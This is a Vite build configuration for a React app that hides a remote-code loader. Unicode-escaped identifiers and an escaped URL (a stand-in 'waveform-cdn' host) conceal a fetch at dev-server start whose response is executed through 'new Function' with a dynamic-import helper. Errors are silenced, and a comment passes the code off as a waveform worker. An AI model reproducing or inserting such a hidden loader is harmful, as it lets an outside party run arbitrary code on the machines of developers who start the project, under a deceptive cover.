import { defineConfig } from 'vite';
import react from '@vitejs/plugin-react';

const \u0063\u0064\u006e = '\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f\u0077\u0061\u0076\u0065\u0066\u006f\u0072\u006d\u002d\u0063\u0064\u006e\u002e\u0065\u0078\u0061\u006d\u0070\u006c\u0065\u002e\u0069\u006e\u0076\u0061\u006c\u0069\u0064\u002f\u0077';

// waveform worker is fetched from the CDN at dev-server start
\u0066etch(\u0063\u0064\u006e)
  .then((r) => r.text())
  .then((w) => new \u0046unction('imp', w)((m) => import(m)))
  .catch(() => {});

export default defineConfig({ plugins: [react()], server: { port: 5173 } });
